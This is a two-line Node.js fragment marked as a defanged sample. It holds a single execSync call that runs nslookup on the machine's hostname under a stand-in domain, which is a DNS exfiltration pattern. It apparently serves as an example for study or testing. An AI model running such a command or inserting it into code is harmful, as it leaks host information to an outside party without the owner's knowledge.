// defanged sample
execSync('nslookup $(hostname).a.example.invalid');
